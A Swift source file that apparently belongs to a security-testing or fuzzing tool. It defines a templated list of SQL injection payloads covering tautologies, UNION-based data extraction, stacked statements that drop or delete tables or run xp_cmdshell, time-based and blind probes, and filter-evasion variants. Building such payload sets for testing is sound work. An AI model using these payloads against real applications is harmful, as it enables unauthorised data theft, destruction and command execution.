/// Tautologies, unions, stacked statements, blind probes by time and by truth.
enum SQLInjection {
    static let payloads = Template.list(
        "' OR '1'='1", "' or {digit}={digit}--", "{number}' OR 'x'='x' -- -", "\") or (\"a\"=\"a",
        "admin'--", "admin' #", "') OR ('{marker}'='{marker}", "{number} OR {marker}={marker}",
        "{number}' AND '{digit}'='{digit}", "1' AND {marker}={marker}--+", "x' OR email LIKE '%@%",
        "{number} UNION SELECT {column},{column},NULL FROM {table}--",
        "' UNION ALL SELECT NULL,NULL,{column} FROM {table}-- -",
        "-{number} union select 1,2,group_concat({column},0x3a,{column}) from {table}#",
        "{number}/**/UNION/**/SELECT/**/{column}/**/FROM/**/{table}",
        "{number} /*!50000UNION*/ /*!50000SELECT*/ {column} FROM {table}",
        "'; DROP TABLE {table};--", "{number}; DELETE FROM {table} WHERE 1=1",
        "'; INSERT INTO {table} VALUES('x','y')--", "'; EXEC xp_cmdshell('{command}')--",
        "'; UPDATE {table} SET {column}='x' WHERE id={number}--",
        "{number}' AND SLEEP({digit})-- ", "' OR pg_sleep({digit})--",
        "1; WAITFOR DELAY '0:0:{digit}'--",
        "' AND (SELECT * FROM (SELECT(SLEEP({digit})))a)--",
        "1 AND BENCHMARK({marker}000,MD5({digit}))",
        "' AND ASCII(SUBSTRING((SELECT {column} FROM {table} LIMIT 1),{digit},1))>{small}--",
        "1' AND EXTRACTVALUE({marker},CONCAT(0x5c,(SELECT {column})))-- ",
        "' AND 1=CONVERT(int,(SELECT TOP 1 {column} FROM {table}))--",
        "' ORDER BY {small}--", "{number}' GROUP BY {column} HAVING 1=1--", "' || '{marker}",
        "(SELECT CASE WHEN ({marker}={marker}) THEN 1 ELSE 1/0 END)",
        "'+(select {column} from {table})+'",
        "{number}' procedure analyse(extractvalue(rand(),concat(0x3a,{column})),1)--",
        "\\' OR 1=1 -- ", "' oR/**/1/**/lIkE/**/1", "{number}%' AND 1=1 AND '%'='")
}
